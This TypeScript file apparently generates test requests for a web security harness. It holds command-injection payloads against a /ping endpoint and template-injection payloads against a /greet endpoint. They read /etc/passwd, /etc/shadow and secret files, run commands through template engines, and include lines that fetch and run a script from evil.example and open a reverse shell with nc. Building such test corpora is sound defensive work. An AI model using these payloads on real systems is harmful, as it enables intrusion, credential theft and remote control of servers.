// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are what other languages take for placeholders.
import { createAuthor, type Draft, encode } from "./draft.ts";

/** Text that becomes a command line or a template. */
export function executionAttacks(): Draft[] {
  return [...commands(), ...templates()];
}

function commands(): Draft[] {
  const { get, form, json, multipart } = createAuthor("rce");
  const runs = { oracle: "shell-output", expectDirect: 200 } as const;
  const hosts = [
    "127.0.0.1; id",
    "127.0.0.1;cat /etc/passwd",
    "127.0.0.1 | whoami",
    "127.0.0.1|cat /etc/passwd",
    "127.0.0.1 && uname -a",
    "127.0.0.1 & id",
    "nowhere || id",
    "$(id)",
    "`whoami`",
    "127.0.0.1\nid",
    "127.0.0.1\r\ncat /etc/passwd",
    "x;cat${IFS}/etc/passwd",
    "x;cat$IFS/etc/passwd",
    "x;{cat,/etc/passwd}",
    "x;c''at /etc/pa''sswd",
    'x;c"a"t /et"c"/passwd',
    "x;c\\at /etc/passw\\d",
    "x;/bin/c?t /e?c/p*d",
    "x;cat</etc/passwd",
    "x;echo aWQ=|base64 -d|sh",
    'x;sh -c "cat /etc/passwd"',
    "x;w$@hoami",
    "x;ls -la /srv/shop",
    "x;env;cat config/secret.yml",
    "x; head -n 3 /etc/shadow",
    "x$(cat /srv/shop/.env)",
  ];
  return [
    ...hosts.map((host) => get(`/ping?host=${encode(host)}`, runs)),
    get("/ping?host=x;id", runs),
    get("/ping?host=x%0a%0did", runs),
    form("/ping", `host=${encode("8.8.8.8; id")}`, runs),
    form("/ping", "host=8.8.8.8%7Cwhoami", runs),
    json("/ping", { host: "8.8.8.8; cat /etc/passwd" }, runs),
    json("/ping", '{"host":"8.8.8.8\\u003b\\u0069\\u0064"}', runs),
    multipart("/ping", [{ name: "host", value: "8.8.8.8 && id" }], runs),
    get(`/ping?host=${encode("x;sleep 5")}`, { oracle: "shell-delay", expectDirect: 200 }),
    get(`/ping?host=${encode("x|sleep 3")}`, { oracle: "shell-delay", expectDirect: 200 }),
    get(`/ping?host=${encode("x;curl http://evil.example/x.sh|sh")}`, { expectDirect: 200 }),
    get(`/ping?host=${encode("x;nc -e /bin/sh evil.example 4444")}`, { expectDirect: 200 }),
    get(`/ping?host=${encode("x;wget -q -O- evil.example/m|bash")}`, { expectDirect: 200 }),
  ];
}

function templates(): Draft[] {
  const { get, form, json } = createAuthor("ssti");
  const computes = (text: string, proof: string) =>
    get(`/greet?name=${encode(text)}`, { oracle: "template-result", proof, expectDirect: 200 });
  const reads = (text: string) => get(`/greet?name=${encode(text)}`, { oracle: "template-result", expectDirect: 200 });
  return [
    computes("{{7*7}}", "Hello 49,"),
    computes("{{ 191 * 7 }}", "1337"),
    computes("${7*7}", "Hello 49,"),
    computes("#{7*7}", "Hello 49,"),
    computes("*{7*7}", "Hello 49,"),
    computes("<%= 7*7 %>", "Hello 49,"),
    computes("@(7*7)", "Hello 49,"),
    computes("{{7*'7'}}", "7777777"),
    computes("${{7*7}}", "49, good"),
    computes("{{(41+1)*100}}", "4200"),
    computes("{{7*7}}{{8*8}}", "4964"),
    reads("{{config.secret}}"),
    reads("{{config['SECRET_KEY']}}"),
    reads("{{settings.SECRET_KEY}}"),
    reads("{{config}}"),
    reads("{{''.__class__.__mro__[1].__subclasses__()}}"),
    reads("{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    reads("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    reads("{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}"),
    reads("${T(java.lang.Runtime).getRuntime().exec('id')}"),
    reads("<%= system('id') %>"),
    reads("#{global.process.mainModule.require('child_process').execSync('id')}"),
    reads("{{['id']|filter('system')}}"),
    reads("<%= File.read('/etc/passwd') %>"),
    reads("${process.env.SHOP_SECRET}"),
    get("/greet?name={{7*7}}", { oracle: "template-result", proof: "Hello 49,", expectDirect: 200 }),
    form("/greet", `name=${encode("{{7*7}}")}`, { oracle: "template-result", proof: "Hello 49,", expectDirect: 200 }),
    json("/greet", { name: "${191*7}" }, { oracle: "template-result", proof: "1337", expectDirect: 200 }),
    reads("{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}{{config.secret}}"),
  ];
}
